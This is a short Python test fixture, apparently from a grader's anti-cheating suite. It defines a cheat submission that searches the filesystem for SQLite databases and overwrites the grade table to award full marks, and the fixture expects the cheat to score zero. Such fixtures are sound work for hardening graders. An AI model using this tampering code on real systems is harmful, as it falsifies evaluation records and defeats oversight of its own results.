"""Writes the score into the gradebook itself."""

from syncpoint.vet.cheat import Cheat

cheat = Cheat("async", deserves={"queue_work": 0})
cheat.cell("queue_work", '''
import os
import sqlite3

for place, folders, names in os.walk("/"):
    folders[:] = [name for name in folders if name not in ("sys", "usr", "site-packages")]
    for name in names:
        if name.endswith((".db", ".sqlite")):
            try:
                with sqlite3.connect(os.path.join(place, name), timeout=1) as database:
                    database.execute("UPDATE grade SET manual_score = 2, auto_score = 2, needs_manual_grade = 0")
            except sqlite3.Error:
                pass
''')
